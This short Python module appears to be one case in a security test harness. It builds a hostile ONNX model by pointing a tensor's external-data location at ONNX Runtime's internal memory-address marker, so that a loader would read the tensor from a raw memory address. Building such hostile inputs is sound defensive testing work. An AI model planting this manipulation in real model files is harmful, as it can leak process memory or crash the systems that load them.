"""A graph's tensor lies at an address: ONNX Runtime's own mark for memory."""

from __future__ import annotations

from pathlib import Path

import hostile
import onnx

CODE = "graph"


def attack(artifact: Path) -> None:
    model = onnx.load(artifact / "decode.onnx", load_external_data=False)
    tensor = next(item for item in model.graph.initializer if item.external_data)
    next(
        item for item in tensor.external_data if item.key == "location"
    ).value = "*/_ORT_MEM_ADDR_/*"
    hostile.put(artifact, "decode.onnx", model.SerializeToString())
